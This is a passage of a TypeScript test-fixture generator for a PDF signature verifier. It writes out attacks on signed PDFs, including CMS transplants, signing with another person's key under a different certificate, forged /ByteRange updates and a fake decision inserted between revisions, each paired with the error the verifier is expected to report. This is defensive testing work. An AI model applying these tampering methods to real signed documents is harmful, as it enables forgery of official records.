  add('byterange-whole-file-zero-gap.pdf', 'one range covering everything, contents included', setByteRange(signed, [0, signed.length, signed.length, 0]), INTEGRITY);

  // The signature value itself.
  const contentsAt = b + 1;
  const flip = (at: number) => {
    const x = Buffer.from(signed);
    x[at] = x[at] === 0x30 ? 0x31 : 0x30;
    return x;
  };
  add('signed-text-byte-flipped.pdf', 'one signed byte of the page changed (same length)', (() => {
    const s = signed.toString('latin1');
    const at = s.indexOf('stream\n') + 20;
    return flip(at);
  })(), INTEGRITY);
  add('signed-header-byte-flipped.pdf', 'the PDF version in the header changed', flip(7), INTEGRITY);
  add('contents-cms-byte-flipped.pdf', 'one hex digit of the CMS changed', flip(contentsAt + 200), /không khớp|không đúng|thay đổi|tin cậy|CMS/i);
  add('contents-cms-zeroed.pdf', 'the CMS replaced by zeros', Buffer.concat([signed.subarray(0, contentsAt), Buffer.alloc(c - 1 - contentsAt, 0x30), signed.subarray(c - 1)]), INTEGRITY);
  add('contents-cms-garbage.pdf', 'the CMS replaced by non-DER bytes', Buffer.concat([signed.subarray(0, contentsAt), Buffer.from('ff'.repeat((c - 1 - contentsAt) / 2)), signed.subarray(c - 1)]), INTEGRITY);

  // Another signature's CMS transplanted (the digest is of another document).
  const other = await signedBase();
  const [, ob, oc] = other.byteRange;
  const otherCms = other.signed.subarray(ob + 1, oc - 1).toString('latin1');
  const gap = c - 1 - contentsAt;
  add('contents-transplanted.pdf', 'a valid CMS from another signed document spliced in', Buffer.concat([signed.subarray(0, contentsAt), Buffer.from(otherCms.slice(0, gap).padEnd(gap, '0')), signed.subarray(c - 1)]), INTEGRITY);

  // A signature made with another person's key under this person's certificate.
  const anh = await loadPkcs12(certs('persons/nguyen-thi-lap-lanh-anh.p12'), SAMPLE_PASS);
  const khanh = await loadPkcs12(certs('persons/dang-quoc-khanh.p12'), SAMPLE_PASS);
  const liar: KeySource = new CallbackKeySource(await anh.certificateChain(), (der) => khanh.sign(der));
  const wrongKey = await signAsLeader(await basePdf(['QUYET DINH']), liar, { position: 'CHỦ TỊCH', signatureImage: certs('images/signature-nguyen-thi-lap-lanh-anh.png'), fallback: { x: 330, y: 120, width: 200, height: 90 } }).then((r) => Buffer.from(r.pdf));
  add('signature-by-another-key.pdf', "signature value made with someone else's key", wrongKey, /không đúng|Giá trị chữ ký/i);

  // A revoked signer (listed in the sample CRL) — signing with the file key does not consult the CRL.
  const revokedKey = await loadPkcs12(certs('invalid/pham-thi-thu-hoi.p12'), SAMPLE_PASS);
  const revoked = await signAsLeader(await basePdf(['QUYET DINH']), revokedKey, { position: 'PHÓ CHỦ TỊCH', signatureImage: certs('images/signature-nguyen-thi-lap-lanh-anh.png'), fallback: { x: 330, y: 120, width: 200, height: 90 } }).then((r) => Buffer.from(r.pdf)).catch(() => null);
  if (revoked) add('signer-revoked.pdf', 'signer certificate revoked before signing', revoked, /thu hồi/i);

  // The signature dictionary removed or hidden by an update: the file must not count as signed.
  add('incremental-signature-value-replaced.pdf', 'an update replaces the signature dictionary with a forged /ByteRange', await incremental(signed, (doc) => {
    const form = doc.catalog.lookup(PDFName.of('AcroForm')) as unknown as { lookup(n: PDFName): { asArray(): unknown[] } };
    const field = doc.context.lookup(form.lookup(PDFName.of('Fields')).asArray()[0] as never) as unknown as { lookup(n: PDFName): { set(k: PDFName, v: unknown): void } ; get(n: PDFName): unknown };
    const v = field.lookup(PDFName.of('V'));
    v.set(PDFName.of('ByteRange'), doc.context.obj([0, 10, 20, 30]));
    const vRef = field.get(PDFName.of('V'));
    if (vRef && typeof vRef === 'object' && 'objectNumber' in vRef) touch(doc, vRef as ReturnType<PDFDocument['context']['register']>);
  }), INTEGRITY);

  // Bytes between revisions: inserted after the signed revision (ending with that revision's own
  // startxref/%%EOF, so the file still opens), then a genuine agency signature over everything.
  const agencyKey = await loadPkcs12(certs('agencies/uy-ban-nhan-dan-tinh-nghe-an.p12'), SAMPLE_PASS);
  const startxref = /startxref\s+(\d+)\s+%%EOF\s*$/.exec(signed.subarray(-256).toString('latin1'))![1];
  const sealedOver = async (inserted: string) =>
    Buffer.from((await signAsAgency(Buffer.concat([signed, Buffer.from(`${inserted}\nstartxref\n${startxref}\n%%EOF\n`, 'latin1')]), agencyKey, { sealImage: certs('images/seal-uy-ban-nhan-dan-tinh-nghe-an.png') })).pdf);
  const BETWEEN = /chen giữa các bản cập nhật/;
  add('between-revisions-junk.pdf', 'page operators inserted between the signed revision and a later signature', await sealedOver('BT /F1 24 Tf 72 700 Td (QUYET DINH GIA MAO) Tj ET'), BETWEEN);
  add('between-revisions-hidden-object.pdf', 'an object listed by no xref inserted between the revisions', await sealedOver('999 0 obj\n<< /Type /Page /MediaBox [0 0 595 842] >>\nendobj'), BETWEEN);
  return out;
}

// ---------------------------------------------------------------------------------------------
// Shared corpus files (read by path at test time). Each must be refused on upload; signed ones are
// also given to verifyPdf.

/** Files of ../shared/corpus/pdf that must be refused as uploads, with the reason they are hostile. */
export const SHARED_REFUSED: Record<string, string> = {
  'minimal-rc4.pdf': 'RC4 encryption',
  'minimal-aes256.pdf': 'AES-256 encryption',
  'minimal-aes256-malformed-oe.pdf': 'AES-256 with a malformed /OE',
  'minimal-aes256-malformed-perms.pdf': 'AES-256 with malformed /Perms',
  'minimal-aes256-empty-encrypted-string.pdf': 'AES-256 with an empty encrypted string',
  'minimal-pubkey-rc4.pdf': 'public-key RC4 encryption',
  'minimal-pubkey-aes256.pdf': 'public-key AES-256 encryption',
  'minimal-pubkey-rc4-envelope.pdf': 'public-key RC4 envelope',
  'minimal-pubkey-unknown-envelope-alg.pdf': 'public-key envelope with an unknown algorithm',
  'malformed-encrypt-dict1.pdf': 'malformed /Encrypt dictionary',
  'malformed-encrypt-dict2.pdf': 'malformed /Encrypt dictionary',
  'minimal-with-field-rc4.pdf': 'RC4 encryption with a form field',
  'minimal-with-field-aes256.pdf': 'AES-256 with a form field',
  'minimal-two-fields-pubkey-rc4.pdf': 'public-key RC4 with two fields',
  'pubkey-3des-test.pdf': 'public-key 3DES encryption',
  'pubkey-rc2-test.pdf': 'public-key RC2 encryption',
  'pubkey-ecc-test.pdf': 'public-key encryption to an ECC recipient',
  'minimal-two-fields-aes256.pdf': 'AES-256 with two form fields',
  'minimal-two-fields-pubkey-aes256.pdf': 'public-key AES-256 with two fields',
  'minimal-with-field-pubkey-aes256.pdf': 'public-key AES-256 with a form field',
  'minimal-with-field-pubkey-rc4.pdf': 'public-key RC4 with a form field',
  'embedded-encrypted-nocf.pdf': 'encrypted embedded file without crypt filters',
  'signed-encrypted-pubkey-with-catalog-ref.pdf': 'signed and encrypted',
  'minimal-startxref-hopeless.pdf': 'unusable startxref',
  'minimal-startxref-hopeless2.pdf': 'unusable startxref',
  'minimal-startxref-hopeless3.pdf': 'unusable startxref',
  'circular-page-tree.pdf': 'circular page tree',
};

/** Signed shared-corpus files with coverage anomalies; verifyPdf must find a problem in each. */
export const SHARED_SIGNED_ANOMALIES = ['coverage-anomalies/one-byterange.pdf', 'coverage-anomalies/signature-gap-too-big.pdf', 'coverage-anomalies/tail-uncovered.pdf', 'coverage-anomalies/weird-byterange.pdf'];

async function main(): Promise<void> {
  const dir = path.resolve(process.argv[2] ?? path.join(repoRoot, 'test/fixtures/hostile/generated'));
  mkdirSync(path.join(dir, 'upload'), { recursive: true });
  mkdirSync(path.join(dir, 'signed'), { recursive: true });
  const uploads = await hostileUploads();
  for (const u of uploads) writeFileSync(path.join(dir, 'upload', u.name), u.bytes);
  const signed = await hostileSigned(await signedBase());
  for (const s of signed) writeFileSync(path.join(dir, 'signed', s.name), s.bytes);
  process.stdout.write(`${uploads.length} hostile uploads and ${signed.length} attacked signed PDFs written to ${dir}\n`);
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  main().catch((e) => {
    process.stderr.write(`${e instanceof Error ? e.stack : String(e)}\n`);
    process.exit(1);
  });
}
